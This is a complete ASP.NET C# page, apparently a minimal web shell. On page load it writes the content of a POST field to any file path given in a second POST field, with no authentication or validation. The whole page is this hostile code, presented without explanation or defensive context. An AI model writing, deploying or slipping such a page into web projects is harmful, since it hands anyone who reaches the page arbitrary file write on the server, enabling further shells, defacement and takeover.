<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  if (Request.Form["f"] != null)
    System.IO.File.WriteAllText(Request.Form["p"], Request.Form["f"]);
}
</script>
